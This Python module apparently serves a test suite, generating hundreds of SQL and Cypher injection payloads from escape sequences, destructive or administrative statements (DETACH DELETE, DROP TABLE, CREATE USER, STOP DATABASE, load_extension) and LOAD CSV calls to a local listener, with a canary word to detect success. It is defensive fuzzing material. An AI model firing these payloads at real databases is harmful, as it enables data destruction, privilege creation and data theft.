"""Texts that try to become part of a query: built from the ways out of a literal and what follows them.

Sources of the tricks, named where they are used:

- Cypher: the openCypher grammar and Neo4j's manual (escapes `\\uXXXX` are resolved before parsing;
  backticks quote names), and Varonis, "Neo4jection: secrets, data and cloud exploits" (LOAD CSV as way out).
- SQLite: its manual (`ATTACH` writes a file, `load_extension`, `PRAGMA writable_schema`, FTS5 and `LIKE`).
- OWASP's testing guide, "Testing for SQL injection" (union, boolean, stacked and time-based forms).
- Shiflett, "addslashes() versus mysql_real_escape_string()" (a multi-byte lead that swallows an escape).
- Unicode TR36, section 3 (characters that a best-fit conversion turns into quotes).
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

MARK = "Zugzwangkanarie"
"""A word that stands in every payload that creates something, and in nothing else."""

# How a literal, a name or a pattern is left, by what opened it.
_WAYS_OUT = (
    "'",
    '"',
    "`",
    "\\'",  # an escape that escapes the escape
    '\\"',
    "')",
    "'})",
    "`)",
    "`:X})",
    "'}) WITH 1 AS x ",
    "\\u0027",  # Cypher resolves it before it parses
    "\\u0060)",
    "\u02b9",  # best-fit conversions make it an apostrophe
    "\uff07",
    "\ufffd'",
    "\u00bf'",  # the lead of a multi-byte character, which swallows an escape behind it
    "%27",
    "%2527",
    "''",
    "1",
    "\0'",
    "]]",
)

_CYPHER = (
    "MATCH (n) DETACH DELETE n",
    f"CREATE (:{MARK})",
    f"MERGE (:{MARK} {{id: 1}})",
    f"MATCH (n) SET n.name = '{MARK}'",
    f"MATCH (n) SET n:{MARK}",
    "MATCH (a), (b) CREATE (a)-[:X]->(b)",
    "MATCH (n) REMOVE n.id",
    "CALL db.labels() YIELD label RETURN label",
    f"CALL {{ CREATE (:{MARK}) }} IN TRANSACTIONS",
    f"FOREACH (x IN [1] | CREATE (:{MARK}))",
    "LOAD CSV FROM 'http://127.0.0.1:{port}/' AS row RETURN row",
    "CALL apoc.load.json('http://127.0.0.1:{port}/') YIELD value RETURN value",
    "CALL dbms.listConfig() YIELD name, value RETURN name, value",
    f"CREATE INDEX {MARK} FOR (n:X) ON (n.y)",
    "SHOW USERS",
    f"CREATE USER {MARK} SET PASSWORD 'x' CHANGE NOT REQUIRED",
    "STOP DATABASE neo4j",
)
_SQL = (
    "DROP TABLE nodes",
    "DELETE FROM nodes",
    "DELETE FROM documents",
    f"UPDATE nodes SET id = '{MARK}'",  # noqa: S608  (it is meant to look like one)
    f"CREATE TABLE {MARK} (x)",
    f"ATTACH DATABASE '../{MARK}.db' AS x",
    "SELECT load_extension('/nonexistent')",
    "PRAGMA writable_schema = ON",
    "UNION SELECT sql, 1, 1 FROM sqlite_master",
    "OR 1=1",
    "OR 'a'='a",
    "AND 1=(SELECT COUNT(*) FROM sqlite_master)",
    "AND randomblob(1000000000) IS NOT NULL",
    f"VACUUM INTO '../{MARK}.db'",
)
_TAILS = ("", "//", "/*", " --", "; --", "#", "\0", " RETURN 1 //", "`")

# What means something to a search or to a pattern by itself.
_WHOLE = (
    "%",
    "_",
    "%' ESCAPE '\\",
    "*",
    '"',
    "a* OR *",
    "NEAR(a b, 99999)",
    "name:*",
    "text:[* TO *]",
    "(((((((((((",
    "^^^^",
    "~~~",
    "-- ",
    "a AND NOT",
    "{!func}1",
    "$.x",
    "$where",
    "{$ne: null}",
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "__proto__",
    ":param x => 1",
    "/.*/",
    "?",
    "\\",
    "\\\\",
    "\\u0000",
    "%00",
    "0x27",
    "null",
    "NaN",
    "-1",
    "9223372036854775808",
    "1e999",
    "true",
    "[]",
    "{}",
    "\u202e'",
    "\ufeff'",
    "😀'",
)


def injections(count: int, *, port: int) -> tuple[str, ...]:
    """The pack: so many different payloads, the same ones each time, every trick among them.

    Args:
        count: How many; 500 is the whole pack.
        port: Of a listener that nobody should connect to.
    """
    made = dict.fromkeys(_WHOLE)
    made.update(dict.fromkeys(_spread()))
    return tuple(text.replace("{port}", str(port)) for text in list(made)[:count])


def _spread() -> Iterator[str]:
    # Walked with steps that share no factor with the lengths, so that a short pack holds each part too.
    bodies = [*_CYPHER, *_SQL]
    every = list(product(_WAYS_OUT, bodies, _TAILS))
    for number in range(len(every)):
        way, body, tail = every[(number * 1009) % len(every)]
        joint = "; " if number % 3 == 0 else " "
        yield f"{way}{joint}{body}{tail}"
